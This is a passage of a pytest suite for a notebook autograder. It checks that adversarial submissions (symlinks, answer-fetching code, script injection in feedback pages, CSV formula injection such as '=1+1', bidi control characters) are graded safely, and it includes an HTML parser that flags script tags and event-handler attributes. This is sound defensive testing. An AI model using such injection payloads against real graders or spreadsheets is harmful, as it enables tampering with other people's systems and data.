        (course / f"submitted/fetch_{way}" / ASSIGNMENT / "helper.py").write_text(HELPER)
    submitted = course / "submitted"
    (submitted / LINKS[0]).symlink_to("right_loops")
    for name, target in ((LINKS[1], "../right_loops/" + ASSIGNMENT), (LINKS[2], "nowhere")):
        (submitted / name).mkdir()
        (submitted / name / ASSIGNMENT).symlink_to(target)
    (submitted / LINKS[3]).mkdir()
    (submitted / LINKS[3] / ASSIGNMENT).write_text("x")
    return {*notebooks, *LINKS}


class Class:
    """What became of it."""

    def __init__(self, course):
        self.course = course
        self.students = hand_in_everything(course)
        self.rows, self.times = {}, []

    def grade(self):
        """As the command line does, with the rows and the time of each step noted."""
        graded = classroom.grade_class

        def noting(course, assignment, progress, *rest):
            def noted(done, of, what):
                self.times.append((time.monotonic(), what))
                progress(done, of, what)

            rows = graded(course, assignment, noted, *rest)
            self.rows = {row.student: row for row in rows}
            return rows

        said, complained = io.StringIO(), io.StringIO()
        self.times.append((time.monotonic(), "start"))
        with (
            pytest.MonkeyPatch.context() as patch,
            contextlib.redirect_stdout(said),
            contextlib.redirect_stderr(complained),
        ):
            patch.setattr(classroom, "grade_class", noting)
            self.status = command_line.main(
                ["grade", ASSIGNMENT, "--course", str(self.course), "--jobs", "2",
                 "--isolation", ISOLATION, "--collected-times",
                 "--seconds-per-cell", "4", "--clock-per-cell", "8", "--seconds", "30",
                 "--seconds-per-call", "2"]
            )  # fmt: skip
        self.said = said.getvalue() + complained.getvalue()
        return self

    def feedback(self, student):
        return self.course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"

    def autograded(self, student):
        return self.course / "autograded" / student / ASSIGNMENT


@pytest.fixture(scope="module")
def odd(tmp_path_factory):
    folder = tmp_path_factory.mktemp("odd")
    try:
        yield Class(folder / "course").grade()
    finally:  # deeper than Python's own way of removing folders goes
        subprocess.run(["rm", "-rf", str(folder)], check=False)


def expected_points():
    cases = {**NOTEBOOKS, **FOLDERS, **KERNELS}
    return [(student, points) for student, (_, points) in cases.items()]


def test_everybody_has_a_row_with_a_name_and_a_reason(odd):
    assert odd.rows.keys() == odd.students, odd.said[-2000:]
    for row in odd.rows.values():
        assert row.points == row.of or row.reasons, row
        assert not any("grading stopped with" in reason for reason in row.reasons), row
        assert all(len(reason) < 2000 for reason in row.reasons), row.student


def test_the_command_says_that_some_could_not_be_run(odd):
    assert odd.status == 1, odd.said[-2000:]
    assert "Traceback" not in odd.said
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", odd.said)


def test_nobody_waits_for_one_submission(odd):
    gaps = [
        (after - before, what)
        for (before, _), (after, what) in zip(odd.times, odd.times[1:], strict=False)
    ]
    assert max(gaps)[0] < LONGEST_STALL, max(gaps)


def test_the_honest_get_what_they_get_in_a_class_of_their_own(odd, tmp_path):
    alone = tmp_path / "alone"
    hand_in(alone, {student: submission(student) for student in HONEST})
    same_inputs(odd.course, alone)
    for row in grade(alone, settings=Settings(workers=1, isolation=ISOLATION, feedback=False)):
        among = odd.rows[row.student]
        assert (among.points, among.parts, among.reasons) == (row.points, row.parts, row.reasons)
        assert not among.failed and not among.needs_person


@pytest.mark.parametrize(("student", "points"), expected_points(), ids=lambda value: str(value))
def test_what_is_odd_and_answered_earns_its_points(odd, student, points):
    row = odd.rows[student]
    if points is None:
        assert not row.failed and 0 <= row.points <= ALL, row
    elif points == 0:
        assert row.failed and row.points == 0, row
    else:
        assert not row.failed and row.points == points, row


@pytest.mark.parametrize("student", LINKS)
def test_what_is_no_folder_earns_nothing(odd, student):
    assert odd.rows[student].failed and odd.rows[student].points == 0


@pytest.mark.parametrize("student", NAMES, ids=ascii)
def test_every_name_that_a_folder_can_have_gets_points_and_a_page(odd, student):
    assert odd.rows[student].points == ALL, odd.rows[student]
    assert not odd.rows[student].needs_person, odd.rows[student]
    assert odd.feedback(student).exists()


@pytest.mark.parametrize("student", HALF_NAMES, ids=ascii)
def test_a_name_that_no_gradebook_can_hold_gets_a_row(odd, student):
    assert odd.rows[student].failed and "rename" in odd.rows[student].reasons[0]


@pytest.mark.parametrize("student", ANSWERS)
def test_an_answer_that_breaks_its_kernel_costs_its_own_part(odd, student):
    row = odd.rows[student]
    assert not row.failed
    assert row.points >= FIRST_TWO and row.parts[PARTS[2]] == 0, row


@pytest.mark.parametrize("way", FETCHED)
def test_what_is_fetched_earns_nothing(odd, way):
    row, (part, _) = odd.rows[f"fetch_{way}"], FETCHED[way]
    assert not row.failed and not row.needs_person
    assert row.parts[part] == 0, row
    assert row.parts[PARTS[3]] == row.possible[PARTS[3]], row  # and nothing else is lost
    if way in LIBRARY and way not in ("flex", "multihead", "forward_door", "native_multihead"):
        assert any("is the answer itself" in reason for reason in row.reasons), row


def test_what_stands_in_brings_no_other_answer_along(odd):
    text = (odd.autograded("stand_in") / f"{ASSIGNMENT}.ipynb").read_text()
    seen = next(line for line in text.splitlines() if "SEEN [" in line)
    for name in PARTS[1:]:
        assert f"def {name}" not in seen and f"'{name}'" not in seen
    assert "course_utils" not in seen


def test_shared_memory_is_refused(odd):
    text = (odd.autograded("shared_memory") / f"{ASSIGNMENT}.ipynb").read_text()
    assert "got [-1, -1, -1]" in text


# ------------------------------------------------------------------------------ what people see

IGNORED = ("pre", "code", "script", "style", "textarea")
VOID = ("br", "hr", "img", "input", "link", "meta", "base", "wbr", "area", "col", "embed", "source")
FORMULAS = [("math", ("display", kind)) for kind in ("block", "inline")]  # set as MathML, no more
HARMLESS_LINK = re.compile(r"(https?://|mailto:|#|\.\.?/|[\w-]+\.(ipynb|html|md)\b)")


class Acts(HTMLParser):
    """What could act in a page: elements, attributes, addresses, and formulas that make links."""

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.found, self.open = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        given = {name: value or "" for name, value in attributes}
        if tag not in VOID:
            ignored = tag in IGNORED or "tex2jax_ignore" in given.get("class", "")
            self.open.append((tag, ignored))
        if tag in ("script", "style", "base", "meta", "form", "iframe", "object", "embed", "link",
                   "svg", "math", "input", "button", "video", "audio", "frame", "noscript"):  # fmt: skip
            self.found.append((tag, *sorted(given.items())))
        for name, value in given.items():
            acts = name.startswith("on") or (
                name in ("srcset", "background", "formaction", "action")
            )
            acts |= name in ("src", "data") and not re.match(
                r"data:image/(png|jpeg|gif|svg\+xml);base64,", value
            )
            acts |= name == "style" and "position" in value
            acts |= name.endswith("href") and tag.startswith("m")
            acts |= name.endswith("href") and not HARMLESS_LINK.match(value)
            if acts:
                self.found.append((tag, name, value))

    def handle_startendtag(self, tag, attributes):
        self.handle_starttag(tag, attributes)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag):
        for place in range(len(self.open) - 1, -1, -1):
            if self.open[place][0] == tag:
                del self.open[place:]
                return

    def handle_data(self, text):
        if not any(ignored for _, ignored in self.open) and ACTING_FORMULA.search(text):
            self.found.append(("formula", text[:200]))


def rendered(path):
    """The HTML that nbconvert makes of a graded notebook."""
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    return HTMLExporter(template_name="classic").from_notebook_node(notebook)[0]


@pytest.mark.parametrize("student", ["attacker", "quoted", "half_characters"])
def test_nothing_that_a_student_wrote_acts_in_a_page(odd, student):
    name = f"{ASSIGNMENT}.ipynb"
    own = Acts(rendered(odd.autograded("right_loops") / name)).found
    found = Acts(rendered(odd.autograded(student) / name)).found
    assert [item for item in found if item not in own] == []
    assert len(found) == len(own)
    own = Acts(odd.feedback("right_loops").read_text()).found
    found = Acts(odd.feedback(student).read_text()).found
    found = [item for item in found if item not in FORMULAS]
    assert [item for item in found if item not in own] == []
    assert len(found) == len(own)


def test_every_page_has_the_scripts_of_an_honest_one(odd):
    scripts = odd.feedback("right_loops").read_text().count("<script")
    for path in odd.course.glob(f"feedback/*/{ASSIGNMENT}/*.html"):
        page = path.read_text()
        if "could not be graded" in page[:2000]:
            assert {item[0] for item in Acts(page).found} == {"meta", "style"}, path
        else:
            assert page.count("<script") == scripts, path


def test_no_file_of_a_students_stands_under_a_name_that_a_browser_runs(odd):
    names = {path.name for path in odd.autograded("pages").iterdir()} - {f"{ASSIGNMENT}.ipynb"}
    assert {"page.html.txt", "page.svg.txt", "page.js.txt"} <= names
    runs = re.compile(
        r"\.(html?|xhtml|svgz?|xml|xsl|js|mjs|css|pdf|mht|swf|ipynb|md)$", re.IGNORECASE
    )
    for path in odd.course.glob("autograded/*/*/*"):
        if path.name != f"{ASSIGNMENT}.ipynb" and path.is_file():
            assert not runs.search(path.name), path


def test_the_table_holds_one_inert_line_for_each_student(odd):
    text = (odd.course / "grading" / ASSIGNMENT / "class.csv").read_text("utf-8-sig")
    head, *records = csv.reader(io.StringIO(text))
    assert len(records) == len(odd.students)
    assert {len(record) for record in records} == {len(head)}
    assert set(PARTS) <= set(head)
    for record in records:
        for cell in record:
            assert not re.match(r"\s*[=+\-@＝＋－＠\t\r\n]", cell), cell
            assert not re.search(r"[\x00-\x1f\x7f\u200e\u200f\u202a-\u202e\u2066-\u2069]", cell), (
                cell
            )
    names = [record[0] for record in records]
    assert "'=1+1" in names and "�evil" in names and "a�b" in names


def test_the_page_of_the_class_holds_no_name_and_every_part(odd):
    page = (odd.course / "grading" / ASSIGNMENT / "class.html").read_text()
    assert all(part in page for part in PARTS)
    assert "right_loops" not in page
    assert "<script" not in page and "&lt;script&gt;steal()" in page, "code is quoted as text"
    assert not [item for item in Acts(page).found if item[0] not in ("meta", "style", "svg")]


# ------------------------------------------------------------------------------ how the command ends


def run_in(course, program, *arguments):
    return subprocess.run(
        [sys.executable, "-c", program, *command(course)[3:], *arguments],
        capture_output=True, text=True, check=False, cwd=ROOT,
    )  # fmt: skip


@pytest.fixture(scope="module")
def graded_once(tmp_path_factory):
    course = tmp_path_factory.mktemp("small") / "course"
    hand_in(course, {"ada": filled_in(RIGHT)})
    grade(course, settings=Settings(workers=1, isolation=ISOLATION, feedback=False))
    return course


@pytest.fixture
def small(graded_once, tmp_path):
    """A course folder that has graded one student, and has another who is new."""
    course = tmp_path / "course"
    shutil.copytree(graded_once, course)
    hand_in(course, {"new": filled_in(RIGHT)})
    return course


def test_a_crash_of_the_grader_has_an_exit_status_of_its_own(small):
    program = (
        "import sys; from autograder import __main__ as m; from autograder.batch import classroom\n"
        "def crash(*_): raise RuntimeError('nobody has thought of this')\n"
        "classroom.grade_class = crash\nsys.exit(m.guarded())"
    )
    run = run_in(small, program)
    assert run.returncode == 3 and "nobody has thought of this" in run.stderr, run


@pytest.mark.parametrize("again", [[], ["--again"]], ids=["new", "again"])
def test_a_read_only_gradebook_is_named_where_a_new_student_comes(small, again):
    db = str(small / "gradebook.db")
    run = subprocess.run(
        [sandbox.bubblewrap(), "--dev-bind", "/", "/", "--ro-bind", db, db, *command(small), "--no-feedback",
         "--isolation", "none", *again],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode == 2, run
    assert db in run.stderr and "Traceback" not in run.stderr, run.stderr


@pytest.mark.parametrize("again", [[], ["--again"]], ids=["new", "again"])
def test_a_read_only_folder_is_named_where_a_new_student_comes(small, again):
    kept = str(small / "autograded")
    run = subprocess.run(
        [sandbox.bubblewrap(), "--dev-bind", "/", "/", "--ro-bind", kept, kept, *command(small), "--no-feedback",
         "--isolation", "none", *again],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert run.returncode == 2, run
    assert kept in run.stderr and "Traceback" not in run.stderr, run.stderr


def test_a_disk_that_is_full_when_the_report_is_written_is_named(small):
    """By a folder that has no more room than the files that are there already."""
    program = (
        "import errno, os, sys; from autograder import __main__ as m\n"
        "def full(*_): raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))\n"
        "from autograder.batch import classroom\ngrade = classroom.grade_class\n"
        "def graded(*a):\n    rows = grade(*a)\n    os.fsync = full\n    return rows\n"
        "os.fsync = lambda *_: None\nclassroom.grade_class = graded\nsys.exit(m.guarded())"
    )
    run = run_in(small, program, "--no-feedback", "--isolation", "none")
    assert run.returncode == 2, run
    assert str(small / "grading" / ASSIGNMENT) in run.stderr and "No space" in run.stderr, (
        run.stderr
    )


def test_a_file_that_cannot_be_written_is_named(tmp_path):
    with pytest.raises(OSError, match=re.escape(str(tmp_path / "none"))):
        write_whole(tmp_path / "none" / "x", "y")


# ------------------------------------------------------------------------------ what is written of it


def test_every_test_that_the_list_of_threats_names_is_there():
    text = (ROOT / "docs" / "THREATS.md").read_text(encoding="utf-8")
    named = re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", text)
    assert named
    for path, name in named:
        assert re.search(rf"^def {name}\(", (ROOT / path).read_text("utf-8"), re.MULTILINE), name
    rows = [line for line in text.splitlines() if line.startswith("|") and "---" not in line]
    assert all("`tests/" in line or "| test |" in line or "no test" in line for line in rows)
